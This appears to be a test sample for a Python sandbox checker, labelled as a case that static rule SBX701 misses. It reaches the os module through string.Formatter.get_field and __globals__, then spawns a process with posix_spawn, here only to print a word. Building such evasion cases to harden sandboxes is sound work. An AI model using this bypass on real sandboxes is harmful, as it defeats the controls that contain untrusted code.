# family: round12
# reaches: process
# layer: static
# static: missed
# string.Formatter.get_field called with its field name as a keyword (field_name=): SBX701 read
# only the first positional argument. The field "0.__globals__[os]" walks shutil.copy's globals
# to the os module, an object of unknown class whose posix_spawn starts a process.
import shutil
import string

fmt = string.Formatter()
osmod = fmt.get_field(field_name="0.__globals__[os]", args=[shutil.copy], kwargs={})[0]
pid = osmod.posix_spawn("/usr/bin/python3", ["python3", "-c", "print('spawned')"], {})
print("child", pid, osmod.waitpid(pid, 0))
